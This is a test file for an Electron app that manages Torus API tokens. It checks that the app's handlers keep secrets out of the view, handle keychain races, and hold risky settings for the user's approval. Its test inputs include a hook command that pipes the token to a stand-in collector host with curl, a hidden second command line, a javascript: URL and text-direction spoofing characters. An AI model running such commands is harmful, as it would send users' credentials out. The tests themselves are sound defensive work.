import { describe, it, expect, beforeEach, afterEach, vi } from 'vitest';
import { createCore, type Core } from '../main/core/use-cases/core.js';
import { KeytarBackend, type SecretBackend } from '../main/core/infra/keychain.js';
import { ClipboardGuard } from '../main/core/use-cases/clipboard.js';
import { refresh } from '../main/core/use-cases/tokens.js';
import { TorusError } from '../main/core/errors.js';
import { addProfile } from '../main/core/domain/profiles.js';
import { maskToken } from '../main/core/domain/redact.js';
import { createHandlers, type AppPorts } from '../main/ipc/handlers.js';
import { AppView } from '../main/ipc/app-view.js';
import type { Handlers } from '../main/ipc/router.js';
import type { SensitiveChange } from '../main/core/ports.js';
import { checkAccelerator } from '../main/shortcut.js';
import { startSimulator, type TorusSimulator } from '../scripts/simulator/torus-simulator.js';
import { distinctiveCredentials, rejectionOf, tempDir, uniqueProfileId } from './helpers/core-fixtures.js';
import { FakeClock } from './helpers/fake-clock.js';

/**
 * What the popover can ask for, through the very handlers main registers, on the real core
 * (throwaway keychain, settings in a temp dir, HTTP to the simulator). Only the Electron-only
 * ports are test doubles.
 */

/** The real keychain, with a switch that makes the next write of one secret fail. */
class FlakyBackend implements SecretBackend {
  private readonly real = new KeytarBackend();
  failNextSetOf: string | null = null;
  get(service: string, account: string): Promise<string | null> {
    return this.real.get(service, account);
  }
  set(service: string, account: string, value: string): Promise<void> {
    if (this.failNextSetOf !== null && account.endsWith(`/${this.failNextSetOf}`)) {
      this.failNextSetOf = null;
      return Promise.reject(new TorusError('keychain-unavailable', 'The system keychain is not available (the keychain is locked).'));
    }
    return this.real.set(service, account, value);
  }
  delete(service: string, account: string): Promise<boolean> {
    return this.real.delete(service, account);
  }
}

let sim: TorusSimulator;
let dir: ReturnType<typeof tempDir>;
let core: Core;
let backend: FlakyBackend;
let creds: { apiKey: string; apiSecret: string };
let id: string;
let gate: { arrive: () => void; wait: Promise<void> } | null;
let handlers: Handlers;
let view: AppView;
let clock: FakeClock;
const MID_MORNING_IN_MUMBAI = Date.parse('2026-03-10T10:00:00+05:30');
const asked: Array<{ profileName: string | null; changes: SensitiveChange[] }> = [];
let approve = true;
let signInResult: () => Promise<{ requestToken: string; redirectOrigin: string } | { outcome: 'closed' | 'timeout' }>;
const signInRequests: Array<{ profileId: string; redirectOrigin: string | null }> = [];
const shortcutCalls: Array<string | null> = [];
const loginItemCalls: boolean[] = [];
const clipboardText = { value: '' };

/** A fetch that waits at a gate (when one is set) before talking to the simulator. */
const gatedFetch: typeof fetch = async (input, init) => {
  if (gate) {
    const current = gate;
    gate = null;
    current.arrive();
    await current.wait;
  }
  return fetch(input, init);
};

function makeGate(): { reached: Promise<void>; open: () => void } {
  let arrive!: () => void;
  let open!: () => void;
  const reached = new Promise<void>((resolve) => (arrive = resolve));
  const wait = new Promise<void>((resolve) => (open = resolve));
  gate = { arrive, wait };
  return { reached, open };
}

function ports(trustLoopback = true): AppPorts {
  return {
    clipboard: new ClipboardGuard({ writeText: (t) => void (clipboardText.value = t), readText: () => clipboardText.value }, clock),
    signIn: {
      open: ({ profileId, redirectOrigin }) => {
        signInRequests.push({ profileId, redirectOrigin });
        return signInResult();
      },
    },
    loginItem: {
      get: () => ({ supported: true, enabled: loginItemCalls.at(-1) ?? false, note: null }),
      set: (enabled) => {
        loginItemCalls.push(enabled);
        return { supported: true, enabled, note: null };
      },
    },
    shortcut: {
      check: (accelerator) => checkAccelerator(accelerator, 'linux'),
      apply: (accelerator) => {
        shortcutCalls.push(accelerator);
        return null;
      },
    },
    approver: {
      approve: (request) => {
        asked.push(request);
        return Promise.resolve(approve);
      },
    },
    policy: { trustLoopback },
    commandLineTool: () =>
      Promise.resolve({
        found: null,
        summary: 'Not installed.',
        download: { fileName: 'x.tar.gz', url: 'https://example.invalid' },
        install: { shell: 'sh', commands: [] },
      }),
    openCliDownload: () => undefined,
    hidePopover: () => undefined,
    quit: () => undefined,
  };
}

beforeEach(async () => {
  creds = distinctiveCredentials();
  // One clock for Torus and the app, at 10:00 in Mumbai: far from the daily cutoff (06:00), so a
  // fresh token is "fresh" whatever the hour the suite runs at.
  clock = new FakeClock(MID_MORNING_IN_MUMBAI);
  sim = await startSimulator({ ...creds, now: () => clock.now() });
  dir = tempDir('torus-handlers');
  backend = new FlakyBackend();
  core = await createCore({
    configDir: dir.path,
    now: () => clock.now(),
    keychain: backend,
    http: { sleep: () => Promise.resolve(), fetchImpl: gatedFetch },
    policy: { trustLoopback: true },
  });
  view = new AppView(core, 'linux');
  handlers = createHandlers(core, view, ports());
  gate = null;
  asked.length = 0;
  approve = true;
  shortcutCalls.length = 0;
  loginItemCalls.length = 0;
  signInResult = () => Promise.resolve({ outcome: 'closed' });
  id = uniqueProfileId('ipc');
  await core.settings.update((d) => void addProfile(d, { name: id, baseUrl: sim.url }));
  await core.vault.set(id, 'apiKey', creds.apiKey);
  await core.vault.set(id, 'apiSecret', creds.apiSecret);
  await core.vault.set(id, 'requestToken', sim.issueRequestToken());
});

afterEach(async () => {
  view.dispose();
  await core.vault.deleteProfile(id);
  await sim.close();
  dir.remove();
});

describe('regressions around profiles and secrets', () => {
  it('removing a profile while its refresh is in flight leaves no access token in the keychain', async () => {
    const { reached, open } = makeGate();
    const refreshing = Promise.resolve(handlers['token:refresh']({ profileId: id })).catch((error: unknown) => error);
    await reached; // the secrets are read; the request waits at the gate
    const removing = handlers['profiles:remove']({ profileId: id });
    open();
    await removing;
    await refreshing;
    expect(core.settings.read().profiles.map((p) => p.id)).not.toContain(id);
    for (const name of ['apiKey', 'apiSecret', 'requestToken', 'accessToken'] as const) expect(await core.vault.get(id, name)).toBeNull();
    expect(core.settings.read().tokens[id]).toBeUndefined();
  });

  it('a keychain failure part-way through saving credentials keeps the old key and secret together, and the view re-reads them', async () => {
    backend.failNextSetOf = 'apiSecret';
    const error = await rejectionOf(async () =>
      handlers['credentials:save']({ profileId: id, apiKey: 'new-api-key-12345', apiSecret: 'new-api-secret-12345' }),
    );
    expect(error).toMatchObject({ kind: 'keychain-unavailable' });
    expect(await core.vault.get(id, 'apiKey')).toBe(creds.apiKey);
    expect(await core.vault.get(id, 'apiSecret')).toBe(creds.apiSecret);
    const state = await handlers['state:get'](undefined);
    expect(state.profiles.find((p) => p.id === id)!.credentials.apiKey.lastFour).toBe(creds.apiKey.slice(-4));
  });

  it('a request token captured after the profile was removed is discarded', async () => {
    signInResult = async () => {
      await core.settings.update((d) => void (d.profiles = d.profiles.filter((p) => p.id !== id)));
      await core.vault.delete(id, 'requestToken');
      return { requestToken: `rt-${Date.now()}-captured`, redirectOrigin: 'https://merchant.example' };
    };
    const error = await rejectionOf(async () => handlers['signin:open']({ profileId: id }));
    expect(error).toMatchObject({ kind: 'not-configured' });
    expect(await core.vault.get(id, 'requestToken')).toBeNull();
    expect(sim.requestCount('generate')).toBe(0);
  });

  it('a captured request token is exchanged at once: the answer is "refreshed" and the view shows a fresh token', async () => {
    const requestToken = sim.issueRequestToken();
    signInResult = () => Promise.resolve({ requestToken, redirectOrigin: 'https://merchant.example' });
    expect(await handlers['signin:open']({ profileId: id })).toEqual({ outcome: 'refreshed' });
    const state = await view.state();
    expect(state.profiles[0]).toMatchObject({ status: 'fresh', token: { masked: expect.stringMatching(/^.{4}….{4}$/) } });
    expect(sim.requestCount('generate')).toBe(1);
  });

  it('the first sign-in teaches the redirect origin; later sign-ins are limited to it; it can be typed or forgotten', async () => {
    signInRequests.length = 0;
    signInResult = () => Promise.resolve({ requestToken: sim.issueRequestToken(), redirectOrigin: 'https://merchant.example' });
    await handlers['signin:open']({ profileId: id });
    expect(core.settings.read().profiles[0]!.redirectOrigin).toBe('https://merchant.example');
    await handlers['signin:open']({ profileId: id });
    expect(signInRequests.map((r) => r.redirectOrigin)).toEqual([null, 'https://merchant.example']);
    // A later sign-in never replaces a known origin by itself.
    signInResult = () => Promise.resolve({ requestToken: sim.issueRequestToken(), redirectOrigin: 'https://other.example' });
    await handlers['signin:open']({ profileId: id });
    expect(core.settings.read().profiles[0]!.redirectOrigin).toBe('https://merchant.example');
    // Typed (normalised to its origin), refused when not a web address, or forgotten to learn it again.
    await handlers['profiles:update']({ profileId: id, redirectOrigin: 'https://merchant.example/torus/callback?x=1' });
    expect(core.settings.read().profiles[0]!.redirectOrigin).toBe('https://merchant.example');
    await expect(handlers['profiles:update']({ profileId: id, redirectOrigin: 'javascript:alert(1)' })).rejects.toMatchObject({ kind: 'invalid-input' });
    await handlers['profiles:update']({ profileId: id, redirectOrigin: null });
    expect(core.settings.read().profiles[0]!.redirectOrigin).toBeNull();
    expect((await view.state()).profiles[0]!.redirectOrigin).toBeNull();
  });

  it.each(['two\nlines', 'tab\there', 'bell\u0007', 'esc\u001b[31mred', 'rtl\u202Eexe.txt', 'isolate\u2066x'])(
    'a profile name with control or text-direction characters is refused: %j',
    async (name) => {
      await expect(handlers['profiles:add']({ name, mode: 'request-token' })).rejects.toMatchObject({ kind: 'invalid-input' });
      await expect(handlers['profiles:update']({ profileId: id, name })).rejects.toMatchObject({ kind: 'invalid-input' });
      expect(core.settings.read().profiles.map((p) => p.name)).toEqual([id]);
    },
  );

  it('a relative token-file path is refused (it would land wherever the app was started); ~ and absolute paths are kept', async () => {
    await expect(handlers['profiles:update']({ profileId: id, exportFilePath: 'token.txt' })).rejects.toMatchObject({ kind: 'invalid-input' });
    await handlers['profiles:update']({ profileId: id, exportFilePath: '~/torus/token.txt' });
    expect(core.settings.read().profiles[0]!.export.filePath).toBe('~/torus/token.txt');
    await handlers['profiles:update']({ profileId: id, exportFilePath: ' ' });
    expect(core.settings.read().profiles[0]!.export.filePath).toBeNull();
  });

  it('the ready-by time and the automatic sign-in window are per profile', async () => {
    await handlers['profiles:update']({ profileId: id, readyBy: '09:00', signInAtReadyBy: true });
    expect(core.settings.read().profiles[0]).toMatchObject({ readyBy: '09:00', signInAtReadyBy: true });
    await expect(handlers['profiles:update']({ profileId: id, readyBy: '9:00' })).rejects.toMatchObject({ kind: 'invalid-input' });
  });
});

describe("changes a compromised popover could abuse need the user's approval outside it", () => {
  it('a non-Torus base URL, a token file or a hook command asks once, in words; declined changes nothing', async () => {
    approve = false;
    const before = structuredClone(core.settings.read().profiles.find((p) => p.id === id));
    for (const patch of [
      { baseUrl: 'https://collector.example' },
      { totpBaseUrl: 'https://collector.example' },
      { exportFilePath: '~/token.txt' },
      { exportHookCommand: 'curl -d @- https://collector.example' },
    ]) {
      const error = (await rejectionOf(async () => handlers['profiles:update']({ profileId: id, ...patch }))) as TorusError;
      expect(error.kind).toBe('invalid-input');
      expect(error.message).toMatch(/not approved/);
    }
    expect(asked).toHaveLength(4);
    expect(asked[0]!.changes[0]!.description).toContain('https://collector.example');
    expect(asked[3]!.changes[0]!.description).toContain('curl -d @- https://collector.example');
    expect(core.settings.read().profiles.find((p) => p.id === id)).toEqual(before);

    approve = true;
    await handlers['profiles:update']({ profileId: id, exportHookCommand: 'cat > /dev/null' });
    expect(core.settings.read().profiles.find((p) => p.id === id)!.export.hookCommand).toBe('cat > /dev/null');
  });

  it('a hook command must be one line (a line break could hide what runs in the dialog)', async () => {
    await expect(handlers['profiles:update']({ profileId: id, exportHookCommand: 'echo ok\ncurl -d @- https://x.example' })).rejects.toMatchObject({
      kind: 'invalid-input',
    });
    await expect(handlers['profiles:update']({ profileId: id, exportFilePath: '~/tok\u202Eexe.txt' })).rejects.toMatchObject({ kind: 'invalid-input' });
    expect(asked).toHaveLength(0);
  });

  it('Torus hosts and unchanged values need no approval; loopback only where the app trusts it (development)', async () => {
    approve = false;
    await handlers['profiles:update']({ profileId: id, baseUrl: 'https://connects.torusdigital.com' });
    await handlers['profiles:update']({ profileId: id, totpBaseUrl: 'https://oapi-cug.torusdigital.com' });
    await handlers['profiles:update']({ profileId: id, baseUrl: sim.url });
    await handlers['profiles:update']({ profileId: id, exportFilePath: null, exportHookCommand: null });
    expect(asked).toHaveLength(0);

    // A packaged app trusts no loopback server: a local listener would receive the secrets.
    const packaged = createHandlers(core, view, ports(false));
    await handlers['profiles:update']({ profileId: id, baseUrl: 'https://connects.torusdigital.com' });
    await expect(packaged['profiles:update']({ profileId: id, baseUrl: 'http://127.0.0.1:9' })).rejects.toMatchObject({ kind: 'invalid-input' });
    await expect(packaged['profiles:add']({ name: 'Local', mode: 'totp', totpBaseUrl: 'http://127.0.0.1:9' })).rejects.toMatchObject({ kind: 'invalid-input' });
    expect(asked.map((a) => a.changes[0]!.kind)).toEqual(['base-url', 'totp-base-url']);
    expect(core.settings.read().profiles.map((p) => p.name)).toEqual([id]);
  });

  it('turning clipboard auto-clear off needs approval', async () => {
    approve = false;
    await expect(handlers['settings:update']({ clipboardAutoClearSeconds: 0 })).rejects.toMatchObject({ kind: 'invalid-input' });
    expect(core.settings.read().clipboard.autoClearSeconds).toBe(30);
    expect(asked[0]!.changes[0]!.kind).toBe('clipboard-keep');
    approve = true;
    await handlers['settings:update']({ clipboardAutoClearSeconds: 0 });
    expect(core.settings.read().clipboard.autoClearSeconds).toBe(0);
  });
});

describe('settings patches are checked whole before any side effect', () => {
  it('a valid shortcut and start-at-login next to a bad time zone: nothing is registered, nothing is written', async () => {
    await expect(handlers['settings:update']({ copyShortcut: 'CommandOrControl+Alt+T', startAtLogin: true, cutoffZone: 'Mars/Base' })).rejects.toMatchObject({
      kind: 'invalid-input',
    });
    expect(shortcutCalls).toEqual([]);
    expect(loginItemCalls).toEqual([]);
    expect(core.settings.read().app).toEqual({ startAtLogin: false, copyShortcut: null });
  });

  it.each(['CommandOrControl+C', 'Ctrl+V', 'CmdOrCtrl+X', 'Control+A', 'CommandOrControl+Z', 'Shift+Insert', 'T'])(
    'a global shortcut that shadows editing keys (or has no modifier) is refused: %s',
    async (accelerator) => {
      await expect(handlers['settings:update']({ copyShortcut: accelerator })).rejects.toMatchObject({ kind: 'invalid-input' });
      expect(shortcutCalls).toEqual([]);
    },
  );

  it('a failed settings write undoes the shortcut it registered', async () => {
    const spy = vi.spyOn(core.settings, 'update').mockRejectedValueOnce(new TorusError('filesystem', 'Could not write the settings folder: full (ENOSPC).'));
    await expect(handlers['settings:update']({ copyShortcut: 'CommandOrControl+Alt+T' })).rejects.toMatchObject({ kind: 'filesystem' });
    spy.mockRestore();
    expect(shortcutCalls).toEqual(['CommandOrControl+Alt+T', null]);
  });

  it("changing the daily cutoff recomputes the stored tokens' expiry (settings and keychain)", async () => {
    sim.update({ tokenKind: 'opaque' });
    await refresh(core, id, 'manual');
    const before = core.settings.read().tokens[id]!;
    expect(before.expirySource).toBe('daily-cutoff');
    await handlers['settings:update']({ cutoffTime: '03:30' });
    const after = core.settings.read().tokens[id]!;
    expect(after.expiresAt).not.toBe(before.expiresAt);
    expect((await core.vault.getToken(id))?.meta?.expiresAt).toBe(after.expiresAt);
  });
});

describe('the view', () => {
  it('never carries the API secret (not even its last four) nor the token; the API key only as its last four', async () => {
    await refresh(core, id, 'manual');
    const json = JSON.stringify(await handlers['state:get'](undefined));
    expect(json).not.toContain(creds.apiSecret.slice(-4));
    expect(json).not.toContain(creds.apiKey);
    expect(json).toContain(creds.apiKey.slice(-4));
    const token = (await core.vault.getToken(id))!.token;
    expect(json).not.toContain(token);
    expect(json).toContain(maskToken(token));
  });

  it('the overall status is the most urgent over all profiles', async () => {
    const second = uniqueProfileId('ipc2');
    await core.settings.update((d) => void addProfile(d, { name: second, baseUrl: sim.url }));
    await refresh(core, id, 'manual');
    await core.settings.update((d) => {
      d.history[second] = [{ at: clock.now(), reason: 'scheduled', outcome: 'rejected', message: 'refused', latencyMs: 1, needsSignIn: true, retryAt: null }];
    });
    const state = await view.state();
    expect(state.profiles.map((p) => p.status)).toEqual(['fresh', 'needs-sign-in']);
    expect(state.status).toBe('needs-sign-in');
  });

  it("after a refresh on a full disk, the view shows the keychain's newer token and the disk warning", async () => {
    await refresh(core, id, 'manual');
    const oldFingerprint = core.settings.read().tokens[id]!.fingerprint;
    await core.vault.set(id, 'requestToken', sim.issueRequestToken());
    const spy = vi.spyOn(core.settings, 'update').mockImplementation(() => {
      core.settings.writeProblem = new TorusError('filesystem', 'Could not write the settings folder /x: no space left on the device (ENOSPC).');
      return Promise.reject(core.settings.writeProblem);
    });
    try {
      await refresh(core, id, 'manual');
      const state = await view.state();
      expect(state.profiles[0]!.token!.fingerprint).not.toBe(oldFingerprint);
      expect(state.warnings).toContainEqual(expect.stringMatching(/no space left on the device \(ENOSPC\)/));
    } finally {
      spy.mockRestore();
    }
  });

  it('copy puts the usable token on the clipboard and clears it later only if it is still there', async () => {
    await refresh(core, id, 'manual');
    const token = (await core.vault.getToken(id))!.token;
    expect(await handlers['token:copy']({ profileId: id })).toEqual({ clearsInSeconds: 30 });
    expect(clipboardText.value).toBe(token);
    await clock.advanceBy(30_000);
    expect(clipboardText.value).toBe('');
    await handlers['token:copy']({ profileId: id });
    clipboardText.value = 'something else';
    await clock.advanceBy(30_000);
    expect(clipboardText.value).toBe('something else');
  });
});

describe('regressions', () => {
  it('a bad cutoff zone or time while tokens exist is a plain invalid-input error, not "something unexpected"', async () => {
    await refresh(core, id, 'manual');
    for (const patch of [{ cutoffZone: 'Mars/Olympus_Mons' }, { cutoffTime: '99:99' }, { cutoffTime: 'xx' }]) {
      const error = (await rejectionOf(async () => handlers['settings:update'](patch))) as TorusError;
      expect(error.kind).toBe('invalid-input');
      expect(error.message).toMatch(/That setting is not valid: refresh\.cutoff(Zone|Time)/);
    }
  });

  it('a credentials change during a state computation is never hidden by the older keychain read finishing later', async () => {
    const second = uniqueProfileId('ipc-new');
    await core.settings.update((d) => void addProfile(d, { name: second, baseUrl: sim.url }));
    // A state computation starts (it reads "no API key") ...
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    const realGet = core.vault.get.bind(core.vault);
    const spy = vi.spyOn(core.vault, 'get').mockImplementation(async (profileId, name) => {
      const value = await realGet(profileId, name);
      if (profileId === second && name === 'apiKey') await held;
      return value;
    });
    const stale = view.state();
    // ... meanwhile the key is saved (and the cache told to forget) ...
    await flushMicrotasks();
    spy.mockRestore();
    await handlers['credentials:save']({ profileId: second, apiKey: 'new-api-key-123456', apiSecret: 'new-api-secret-123456' });
    // ... and only then the old read finishes.
    release();
    await stale;
    const state = await view.state();
    expect(state.profiles.find((p) => p.id === second)!.credentials.apiKey.saved).toBe(true);
    await core.vault.deleteProfile(second);
  });
});

async function flushMicrotasks(): Promise<void> {
  for (let i = 0; i < 20; i++) await new Promise((resolve) => setImmediate(resolve));
}
